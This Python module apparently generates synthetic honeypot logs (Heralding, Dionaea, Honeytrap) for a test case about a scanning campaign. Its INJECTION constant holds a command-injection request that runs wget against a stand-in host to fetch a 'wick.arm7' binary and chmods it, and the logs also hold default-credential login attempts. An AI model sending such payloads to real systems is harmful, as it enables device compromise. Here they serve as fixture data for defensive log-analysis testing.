"""The Heralding, Dionaea and Honeytrap logs of the sample case, in the shapes those programs write.

Heralding: one object a line in log_session.json, naive UTC times with a blank, attempts inside. Dionaea: log_json with
`flat_data`, so the credentials and commands of a connection are columns of values. Honeytrap: one object a line with
blanks inside the braces, payloads as hexadecimal with their MD5 and SHA-512; it writes exact repeats, and all zeros in
1970 for its virtual entries.
"""

from datetime import datetime, timedelta
from hashlib import md5, sha512
from random import Random
from typing import Any
from uuid import UUID

import orjson

from bench.sample_cowrie import MEMBERS, RARE_PAIRS, STAGING, VISITORS

DAY = datetime(2025, 3, 10)  # noqa: DTZ001 - these programs write times without a zone
OWN = "10.77.3.2"
MAILBOX = "keeper@lantern-harbour.example"

PORTS = {"vnc": 5900, "pop3": 110, "imap": 143, "smtp": 25, "postgresql": 5432, "socks5": 1080, "ftp": 21}
COMMON_LOGINS = {
    "pop3": ("info", "info"),
    "imap": ("test", "test123"),
    "smtp": ("admin", "admin"),
    "postgresql": ("postgres", "postgres"),
    "ftp": ("anonymous", "anonymous@"),
}


def heralding_log() -> bytes:
    """Sixty sessions; members of the campaign try the mailbox from the case with one of their rare passwords."""
    random = Random("heralding")
    sessions = []
    for number in range(60):
        moment = DAY + timedelta(hours=2, minutes=number * 9, microseconds=random.randrange(1_000_000))
        if number % 12 == 5:
            member = MEMBERS[number // 12]
            sessions.append(_login_session(random, moment, member, "imap", [(MAILBOX, RARE_PAIRS[1][1])]))
            continue
        protocol = tuple(PORTS)[number % len(PORTS)]
        visitor = VISITORS[number * 7 % 20]
        logins: list[tuple[str | None, str | None]] = []
        if protocol == "vnc" and number % 3 == 0:
            logins = [(None, None)]  # Heralding knows neither name nor password of a VNC client
        elif protocol in COMMON_LOGINS and number % 2:
            logins = [COMMON_LOGINS[protocol]]
        sessions.append(_login_session(random, moment, visitor, protocol, logins))
    return b"".join(_spaced(session) for session in sessions)


def _login_session(
    random: Random, moment: datetime, source: str, protocol: str, logins: list[tuple[Any, Any]]
) -> dict[str, Any]:
    attempts = [
        {"timestamp": str(moment + timedelta(seconds=1, microseconds=137)), "username": name, "password": password}
        for name, password in logins
    ]
    methods = {"client_auth_methods": ["NO AUTHENTICATION REQUIRED"]} if protocol == "socks5" else {}
    return {
        "timestamp": str(moment),
        "duration": len(logins) * 2,
        "session_id": str(UUID(int=random.getrandbits(128), version=4)),
        "source_ip": source,
        "source_port": 20_000 + random.randrange(40_000),
        "destination_ip": OWN,
        "destination_port": PORTS[protocol],
        "protocol": protocol,
        "num_auth_attempts": len(attempts),
        "auth_attempts": attempts,
        "session_ended": True,
        "auxiliary_data": methods,
    }


def dionaea_log() -> bytes:
    """Forty connections: mostly file sharing, some databases, and an FTP upload by the staging host."""
    random = Random("dionaea")
    services = (("smbd", 445), ("smbd", 445), ("httpd", 80), ("mysqld", 3306), ("mssqld", 1433), ("ftpd", 21))
    entries = []
    for number in range(40):
        protocol, port = services[number % len(services)]
        moment = DAY + timedelta(hours=1, minutes=number * 14, microseconds=random.randrange(1, 1_000_000))
        source = STAGING if number == 17 else MEMBERS[number % 8] if number % 10 == 4 else VISITORS[number % 20]
        entry: dict[str, Any] = {
            "connection": {"protocol": protocol, "transport": "tcp", "type": "accept"},
            "dst_ip": "10.77.4.2",
            "dst_port": port,
            "src_hostname": "",
            "src_ip": source,
            "src_port": 20_000 + random.randrange(40_000),
            "timestamp": moment.isoformat(),
        }
        entries.append(entry | _spoken(protocol, source))
    return b"".join(_spaced(entry) for entry in entries)


def _spoken(protocol: str, source: str) -> dict[str, Any]:
    """What a client said after connecting."""
    if protocol == "mysqld":
        return {"credentials": {"password": [""], "username": ["root"]}}
    if protocol == "mssqld":
        return {"credentials": {"password": ["sa", "password"], "username": ["sa", "sa"]}}
    if protocol == "ftpd":
        name, password = RARE_PAIRS[0] if source == STAGING else ("anonymous", "anonymous@")
        last = ("STOR", "wick.sh") if source == STAGING else ("QUIT", "")
        commands = {"arguments": [name, password, "", last[1]], "command": ["USER", "PASS", "SYST", last[0]]}
        return {"ftp": {"commands": commands}, "credentials": {"password": [password], "username": [name]}}
    return {}


REQUESTS = (
    (8080, b"GET / HTTP/1.1\r\nHost: 10.77.5.2:8080\r\nUser-Agent: Mozilla/5.0 (compatible; lamp-check)\r\n\r\n"),
    (3389, bytes.fromhex("0300001b16e00000000000") + b"Cookie: mstshash=test\r\n"),
    (6379, b"*1\r\n$4\r\nINFO\r\n"),
    (8728, b""),
    (5555, b"CNXN\x00\x00\x00\x01\x00\x00\x10\x00host::"),
)
INJECTION = (
    b"GET /shell?cd+/tmp;wget+http://203.0.113.77/lantern/wick.arm7;chmod+777+wick.arm7 HTTP/1.1\r\n"
    b"Host: 10.77.5.2\r\nUser-Agent: wick/1.0\r\n\r\n"
)


def honeytrap_log() -> bytes:
    """Twenty-five lines: twenty-one connections, three exact repeats and one virtual entry of 1970."""
    lines = []
    for number in range(21):
        port, payload = REQUESTS[number % len(REQUESTS)]
        source = VISITORS[number * 3 % 20]
        if number % 8 == 6:
            port, payload, source = 60_001, INJECTION, MEMBERS[number // 8]
        moment = DAY + timedelta(hours=5, minutes=number * 11, seconds=number)
        lines.append(_attack(f"{moment.isoformat()}Z", source, 30_000 + number * 37, port, payload))
        if number in (3, 8, 13):
            lines.append(lines[-1])
    lines.insert(12, _attack("1970-01-01T00:00:00Z", None, 0, 0, b"\x00"))
    return b"".join(lines)


def _attack(stamp: str, source: str | None, remote_port: int, local_port: int, payload: bytes) -> bytes:
    entry = {
        "is_virtual": source is None,
        "@timestamp": stamp,
        "start_time": stamp,
        "end_time": stamp,
        "attack_connection": {
            "protocol": "tcp" if source else "ip",
            "remote_ip": source or "0.0.0.0",  # noqa: S104 - what Honeytrap writes, not an address to listen on
            "remote_port": remote_port,
            "local_ip": "10.77.5.2" if source else "0.0.0.0",  # noqa: S104 - as above
            "local_port": local_port,
            "payload": _payload(payload, hashed=source is not None),
        },
        "proxy_connection": {
            "protocol": "ip",
            "remote_ip": "0.0.0.0",  # noqa: S104 - as above
            "remote_port": 0,
            "local_ip": "0.0.0.0",  # noqa: S104 - as above
            "local_port": 0,
            "payload": _payload(b"", hashed=source is not None),
        },
        "operation_mode": 1 if source else 0,
        "download_count": 0,
        "download_tries": 0,
        "downloads": {},
    }
    return _spaced(entry, inside=b" ")


def _payload(content: bytes, *, hashed: bool) -> dict[str, Any]:
    return {
        "md5_hash": md5(content, usedforsecurity=False).hexdigest() if hashed else "",
        "sha512_hash": sha512(content).hexdigest() if hashed else "",
        "length": len(content),
        "data_hex": content.hex(),
    }


def _spaced(value: Any, inside: bytes = b"") -> bytes:
    """One line of JSON with a blank after each comma and colon, as these programs write it."""
    return _render(value, inside) + b"\n"


def _render(value: Any, inside: bytes) -> bytes:
    if isinstance(value, dict):
        members = [orjson.dumps(key) + b": " + _render(member, inside) for key, member in value.items()]
        return b"{" + inside + b", ".join(members) + (inside if members else b"") + b"}"
    if isinstance(value, list):
        return b"[" + b", ".join(_render(item, inside) for item in value) + b"]"
    return orjson.dumps(value)
